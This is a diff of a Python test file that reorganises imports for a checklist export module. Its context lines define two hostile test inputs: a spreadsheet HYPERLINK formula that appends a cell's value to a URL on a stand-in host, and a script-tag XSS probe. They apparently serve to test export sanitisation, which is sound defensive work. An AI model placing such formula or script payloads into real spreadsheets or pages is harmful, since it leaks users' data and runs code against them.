@@ -8,7 +8,8 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from dia_scan import checklists, exports
+from dia_scan.checklist import exports
+from dia_scan.checklist import service as checklists
 
 HYPERLINK = '=HYPERLINK("http://example.com/?x="&A1,"klik")'
 SCRIPT = "<script>alert('x')</script>"
